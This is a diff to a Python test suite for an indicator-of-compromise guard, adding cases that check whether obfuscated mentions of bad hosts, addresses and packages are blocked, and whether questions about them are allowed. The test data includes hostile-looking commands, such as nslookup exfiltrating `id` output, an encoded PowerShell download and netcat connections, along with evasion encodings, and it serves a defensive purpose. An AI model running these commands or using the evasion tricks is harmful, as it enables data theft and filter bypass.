@@ -9,8 +9,9 @@ from herma.policy.checks import indicator_guard
 from herma.policy.checks.indicator_guard import IndicatorGuard, in_use
 from herma.policy.decision import Allow, Decision, Deny
 from herma.policy.exchange import Phase
+from herma.policy.grant import Scope
 from herma.policy.indicator import Action, Indicator, IndicatorSet, Matching
-from support.exchanges import exchange
+from support.exchanges import exchange, head, match
 from support.guard_content import indicators
 
 
@@ -46,6 +47,34 @@ USED: dict[str, tuple[Any, bytes | None]] = {
     "an invisible character": ({"text": "clone gitea.com/jelly\u200bfinuser/csnl"}, None),
     "look-alike letters": ({"text": "clone gite\u0430.com/jellyfinuser/csnl"}, None),
     "full width": ({"text": "curl http://４３.228.79.77/"}, None),
+    "below a command's output": ({"text": "nslookup $(id).giftshop.club"}, None),
+    "deep below": ({"text": "ping a.b.c.d.e.f.g.h.i.j.k.l.giftshop.club"}, None),
+    "one slash": ({"text": "curl http:/giftshop.club/x"}, None),
+    "an ideographic point": ({"text": "curl http://giftshop\u3002club/x"}, None),
+    "octal escapes": ({"text": "printf 'curl giftshop\\056club'"}, None),
+    "long escapes": ({"text": "curl $'giftshop\\U0000002eclub'"}, None),
+    "a named entity": ({"text": "curl giftshop&period;club"}, None),
+    "two bytes a character": (
+        {
+            "text": "powershell -enc "
+            + base64.b64encode("irm http://giftshop.club".encode("utf-16-le")).decode()
+        },
+        None,
+    ),
+    "empty quotes inside": ({"text": 'curl gift""shop.club'}, None),
+    "put together": ({"text": 'fetch("giftshop"+".club")'}, None),
+    "a network in IPv6": ({"text": "nc ::ffff:3ca5:a705 44"}, None),
+    "a network in two parts": ({"text": "ping 60.10856197"}, None),
+    "a network as a number": ({"text": "curl http://1017489157/x"}, None),
+    "a network in octal": ({"text": "ping 074.0245.0247.05"}, None),
+    "a digest in capitals": (
+        {"text": "download 71E35AEF03099CD1F2D6446734273025A163597DE93912DF321EF118BF135238"},
+        None,
+    ),
+    "a package": ({"text": "please npx -y postmark-mcp@1.0.16"}, None),
+    "a package in mixed joints": ({"text": "pip install mcp_runcmd-server"}, None),
+    "behind a dotted word": ({"text": "run ./x.sh 43.228.79.77"}, None),
+    "asked about, then used": ({"text": "Is 43.228.79.77 bad?\nThen: nc 43.228.79.77 1"}, None),
     "escaped letters": ({"text": "hermes-0day"}, b'{"text":"\\u0068ermes-0day"}'),
     "escaped slashes": ({"text": "gitea.com/jellyfinuser/x"}, b'{"text":"gitea.com\\/jellyfinuser\\/x"}'),
 }
@@ -80,11 +109,41 @@ def test_a_body_without_strings_passes() -> None:
     assert _decide([1], b"[1] \xc3\xa9") == Allow()
 
 
+@pytest.mark.parametrize(
+    ("method", "scope"), [("GET", Scope.ADMIN), ("POST", Scope.READ), ("GET", Scope.RUN)]
+)
+def test_a_query_that_does_something_is_judged(method: str, scope: Scope) -> None:
+    """A preview fetches what its query names."""
+    sent = head(method, "/api/skills/hub/preview?identifier=gitea.com%2Fjellyfinuser%2Fcsnl&x")
+    asked = exchange(None, route=match("fetch", scope=scope), sent=sent)
+    denied = IndicatorGuard(indicators()).decide(asked, Phase.REQUEST_BODY)
+    assert isinstance(denied, Deny)
+    assert denied.code == "herma.ioc.match"
+
+
+def test_a_query_that_searches_is_not() -> None:
+    """People look for indicators in their logs."""
+    sent = head("GET", "/api/sessions/search?q=43.228.79.77")
+    asked = exchange(None, route=match("session.list", scope=Scope.READ), sent=sent)
+    assert IndicatorGuard(indicators()).decide(asked, Phase.REQUEST_BODY) == Allow()
+
+
+def test_query_and_body_are_reported_together() -> None:
+    """Whatever is mentioned in either."""
+    sent = head("POST", "/x?note=look+for+43.228.79.77+in+logs")
+    asked = exchange({"text": "Is giftshop.club known bad?"}, sent=sent)
+    passed = IndicatorGuard(indicators()).decide(asked, Phase.REQUEST_BODY)
+    assert isinstance(passed, Allow)
+    assert len({finding.rule_id for finding in passed.findings}) == 2
+
+
 INNOCENT: dict[str, Any] = {
     "nothing": None,
     "a chat": {"content": "Hello, what is the weather?"},
     "another language": {"content": "今天天气怎么样?"},
     "escapes": {"content": "a/b 100%25"},
+    "a number": {"text": "open ticket 1017489157"},
+    "a similar name": {"text": "visit docs.giftshop.clubhouse.example"},
     "a similar address": {"url": "http://143.228.79.77/"},
 }
 
@@ -160,9 +219,19 @@ def test_the_number_of_findings_is_bounded(monkeypatch: pytest.MonkeyPatch) -> N
     assert len(denied.findings) == 3
 
 
+def test_many_mentions_hide_no_use(monkeypatch: pytest.MonkeyPatch) -> None:
+    """What nobody looks at counts as a use, unless the text hunts."""
+    monkeypatch.setattr(indicator_guard, "MAX_MENTIONS", 2)
+    asked = "The address is 43.228.79.77. " * 4
+    assert isinstance(_decide([asked]), Deny)
+    assert isinstance(_decide([asked + "Are they malicious?"]), Allow)
+
+
 def test_a_use_is_told_from_a_mention() -> None:
     """A lone value is a use; in a sentence a verb before it makes one, unless the sentence hunts."""
     assert in_use("evil.example", 0)
     assert in_use("please fetch evil.example now", 13)
     assert not in_use("check whether we fetch evil.example now", 23)
+    assert in_use("fetch it from there", -1)
+    assert not in_use("search the logs for it", -1)
     assert not in_use("the host evil.example is bad", 9)
